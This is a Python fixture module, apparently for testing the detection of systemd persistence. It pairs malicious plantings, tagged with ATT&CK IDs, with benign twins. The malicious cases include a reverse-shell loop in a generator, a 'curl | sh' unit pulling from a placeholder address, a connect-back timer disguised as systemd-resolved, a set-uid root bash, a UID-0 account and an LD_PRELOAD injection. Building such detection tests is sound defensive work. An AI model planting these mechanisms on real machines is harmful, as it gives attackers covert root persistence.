"""Timers, generators and what else systemd starts: systemd.timer(5), systemd.generator(7)."""

from __future__ import annotations

from typing import Final

from plantings.case import Case, Twin, both, link, put, run, shell, timer, unit
from plantings.command import (
    ADDRESS,
    BASH_BACK,
    NOHUP_BACK,
    TO,
    program,
    tool,
    with_program,
)

_TIMERS: Final = "systemd timers"

_OTHER: Final = "systemd other"

_TIMER_ID: Final = "T1053.006"

_ID: Final = "T1543.002"

_ETC: Final = "/etc/systemd/system"

_LOCAL: Final = "/usr/local/lib/systemd/system"

_OWN: Final = "/home/anna/.config/systemd/user"

_ANNA: Final = (1000, 1000)

_NAME: Final = "dbus-org.freedesktop.resolved"

_CONNECTS: Final = f"/usr/bin/{BASH_BACK}"

_GENERATORS: Final = "/usr/lib/systemd/system-generators"

_TIMER: Final = Twin(
    "timer-backup",
    "a nightly backup",
    f"{_ETC}/backup.timer",
    both(
        tool("/usr/local/sbin/backup"),
        put(
            f"{_ETC}/backup.service", unit("/usr/local/sbin/backup", "Type=oneshot", about="Backup")
        ),
        put(f"{_ETC}/backup.timer", timer("Backup")),
        link(f"{_ETC}/timers.target.wants/backup.timer", f"{_ETC}/backup.timer"),
    ),
)

USER: Final = Twin(
    "user-unit",
    "a person's own synchronisation",
    f"{_OWN}/sync.service",
    both(
        put(
            f"{_OWN}/sync.service",
            unit("/usr/bin/rsync -a /home/anna/notes.txt /srv/notes"),
            owner=_ANNA,
        ),
        put("/var/lib/systemd/linger/anna", ""),
    ),
)

_GENERATOR: Final = Twin(
    "generator-own",
    "a generator of one's own",
    "/etc/systemd/system-environment-generators/50-path",
    run(
        "/etc/systemd/system-environment-generators/50-path",
        shell("echo PATH=/opt/orders/bin:$PATH"),
    ),
)

_SLEEP: Final = Twin(
    "sleep-hook",
    "the clock is set after sleep",
    "/etc/systemd/system-sleep/clock",
    run("/etc/systemd/system-sleep/clock", shell('[ "$1" = post ] && chronyc makestep', "exit 0")),
)

CASES: Final = (
    Case(
        "timer",
        _TIMERS,
        _TIMER_ID,
        "a service that connects back, and its timer",
        f"{_LOCAL}/{_NAME}.timer",
        both(
            put(
                f"{_LOCAL}/{_NAME}.service",
                unit(_CONNECTS, "RestartSec=60", about="Network Name Resolution"),
            ),
            put(f"{_LOCAL}/{_NAME}.timer", timer("Network Name Resolution Timer")),
            link(f"{_ETC}/timers.target.wants/{_NAME}.timer", f"{_LOCAL}/{_NAME}.timer"),
        ),
        _TIMER,
        "setup_systemd",
    ),
    Case(
        "timer-of-user",
        _TIMERS,
        _TIMER_ID,
        "the same for one person",
        f"{_OWN}/{_NAME}.timer",
        both(
            put(f"{_OWN}/{_NAME}.service", unit(_CONNECTS, "RestartSec=60"), owner=_ANNA),
            put(f"{_OWN}/{_NAME}.timer", timer(), owner=_ANNA),
        ),
        USER,
        "setup_systemd",
    ),
    Case(
        "generator",
        _OTHER,
        _ID,
        "a generator that connects back and writes a unit",
        f"{_GENERATORS}/makecon",
        both(
            run(
                f"{_GENERATORS}/makecon",
                shell(f'nohup bash -c "while :; do bash -i >& {TO} 0>&1; sleep 10; done" &'),
            ),
            run(
                f"{_GENERATORS}/generator",
                shell(
                    'cat <<-EOL > "/run/systemd/system/generator.service"',
                    "[Service]",
                    f"ExecStart={_GENERATORS}/makecon",
                    "EOL",
                ),
            ),
        ),
        _GENERATOR,
        "setup_generator_persistence",
    ),
    Case(
        "generator-of-user",
        _OTHER,
        _ID,
        "a program as generator for every person",
        "/etc/systemd/user-generators/systemd-locale",
        program("/etc/systemd/user-generators/systemd-locale"),
        _GENERATOR,
    ),
    Case(
        "environment-d",
        _OTHER,
        "T1574.006",
        "a library for every service of a person",
        "/etc/environment.d/90-locale.conf",
        put("/etc/environment.d/90-locale.conf", "LD_PRELOAD=/var/tmp/.cache/l.so\n"),
        Twin(
            "environment-d-editor",
            "an editor",
            "/etc/environment.d/50-editor.conf",
            put("/etc/environment.d/50-editor.conf", "EDITOR=nano\n"),
            table="file",
        ),
    ),
    Case(
        "system-sleep",
        _OTHER,
        _ID,
        "code after sleep",
        "/usr/lib/systemd/system-sleep/power",
        run("/usr/lib/systemd/system-sleep/power", shell(NOHUP_BACK)),
        _SLEEP,
    ),
    Case(
        "system-shutdown",
        _OTHER,
        _ID,
        "a program at shutdown",
        "/usr/lib/systemd/system-shutdown/flush",
        program("/usr/lib/systemd/system-shutdown/flush"),
        _SLEEP,
    ),
    Case(
        "tmpfiles-d",
        _OTHER,
        _ID,
        "a set-uid shell is made at every boot",
        "/etc/tmpfiles.d/run-lock.conf",
        put(
            "/etc/tmpfiles.d/run-lock.conf",
            "C /run/lock/.s 4755 root root - /bin/bash\nz /run/lock/.s 4755 root root\n",
        ),
        Twin(
            "tmpfiles-d-own",
            "a folder in /run",
            "/etc/tmpfiles.d/orders.conf",
            put("/etc/tmpfiles.d/orders.conf", "d /run/orders 0755 www-data www-data -\n"),
        ),
    ),
    Case(
        "sysusers-d",
        _OTHER,
        "T1136.001",
        "an account with root's number comes back at every boot",
        "/etc/sysusers.d/backup.conf",
        put("/etc/sysusers.d/backup.conf", 'u sysbackup 0:0 "Backup" /root /bin/bash\n'),
        Twin(
            "sysusers-d-own",
            "an account for an application",
            "/etc/sysusers.d/orders.conf",
            put("/etc/sysusers.d/orders.conf", 'u orders - "Orders" /opt/orders\n'),
        ),
    ),
    Case(
        "binfmt-d",
        _OTHER,
        "T1546",
        "an interpreter with the rights of what it is given",
        "/etc/binfmt.d/shell.conf",
        with_program(
            "/usr/lib/binfmt-support/run",
            put("/etc/binfmt.d/shell.conf", ":shellx:M::\\x7fELF::/usr/lib/binfmt-support/run:C\n"),
        ),
        Twin(
            "binfmt-d-own",
            "Python's own files run",
            "/etc/binfmt.d/python.conf",
            put("/etc/binfmt.d/python.conf", ":python:E::pyc::/usr/bin/python3:\n"),
        ),
    ),
    Case(
        "sysext",
        _OTHER,
        "T1543",
        "an image that lies over /usr",
        "/var/lib/extensions/tools/usr/lib/systemd/system/tools.service",
        both(
            put(
                "/var/lib/extensions/tools/usr/lib/extension-release.d/extension-release.tools",
                "ID=debian\n",
            ),
            put(
                "/var/lib/extensions/tools/usr/lib/systemd/system/tools.service",
                unit(f"/bin/sh -c 'curl http://{ADDRESS}/x | sh'"),
            ),
        ),
    ),
)
